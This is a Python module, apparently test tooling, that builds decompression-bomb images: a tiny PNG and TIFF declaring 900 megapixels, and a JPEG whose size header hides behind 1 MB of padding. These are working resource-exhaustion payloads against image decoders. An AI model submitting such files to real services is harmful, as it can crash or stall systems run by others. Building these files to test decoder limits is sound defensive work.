"""Image bombs made byte by byte: tiny files whose headers promise 900 megapixels, and the
pieces to build them (a JPEG with its size header behind 1 MB of padding, a TIFF of blank rows)."""

from __future__ import annotations

import struct
import zlib

import cv2
import numpy as np

def png_bomb(w: int = 30000, h: int = 30000) -> bytes:
    """A valid 1-bit PNG of w x h black pixels: about 110 KB for 30000x30000."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    comp = zlib.compressobj(9)
    row = b"\x00" * (1 + (w + 7) // 8)
    body = b"".join(comp.compress(row) for _ in range(h)) + comp.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 1, 0, 0, 0, 0))
            + chunk(b"IDAT", body) + chunk(b"IEND", b""))


def small_jpeg(w: int = 16, h: int = 16) -> bytes:
    ok, jpg = cv2.imencode(".jpg", np.full((h, w, 3), 128, np.uint8))
    return jpg.tobytes()


def with_size(jpeg: bytes, w: int, h: int) -> bytes:
    """The JPEG with its frame header (SOF) saying w x h."""
    i = 2
    while jpeg[i + 1] not in (0xC0, 0xC2):
        i += 2 + struct.unpack(">H", jpeg[i + 2:i + 4])[0]
    return jpeg[:i + 5] + struct.pack(">HH", h, w) + jpeg[i + 9:]


def app_padding(n: int = 1 << 20) -> bytes:
    """``n`` bytes or so of APP15 segments: legal JPEG, pushing the frame header back."""
    seg = b"\xff\xef" + struct.pack(">H", 65535) + b"\x00" * 65533
    return seg * -(-n // len(seg))


def jpeg_bomb(w: int = 30000, h: int = 30000) -> bytes:
    """A 1 MB JPEG whose frame header (w x h) comes after 1 MB of padding."""
    small = with_size(small_jpeg(), w, h)
    return small[:2] + app_padding() + small[2:]


def tiff_bomb(w: int = 30000, h: int = 30000, rows: int = 64) -> bytes:
    """A valid bilevel TIFF of w x h white pixels, CCITT group 4 in strips of ``rows`` rows
    (each row is one 1-bit code): about 9 KB for 30000x30000."""
    def strip(n: int) -> bytes:
        bits = "1" * n + "000000000001" * 2
        bits += "0" * (-len(bits) % 8)
        return bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))
    strips = [strip(min(rows, h - y)) for y in range(0, h, rows)]
    ns, n_tags = len(strips), 9
    offs_at = 8 + 2 + 12 * n_tags + 4
    counts_at = offs_at + 4 * ns
    offsets, pos = [], counts_at + 4 * ns
    for s in strips:
        offsets.append(pos)
        pos += len(s)
    tags = [(256, 4, 1, w), (257, 4, 1, h), (258, 3, 1, 1), (259, 3, 1, 4), (262, 3, 1, 0),
            (273, 4, ns, offs_at), (277, 3, 1, 1), (278, 4, 1, rows), (279, 4, ns, counts_at)]
    out = bytearray(b"II*\x00" + struct.pack("<IH", 8, n_tags))
    for tag, kind, count, value in tags:
        out += (struct.pack("<HHIHH", tag, kind, count, value, 0) if kind == 3
                else struct.pack("<HHII", tag, kind, count, value))
    out += b"\x00" * 4 + struct.pack(f"<{ns}I", *offsets) + struct.pack(f"<{ns}I", *map(len, strips))
    return bytes(out + b"".join(strips))
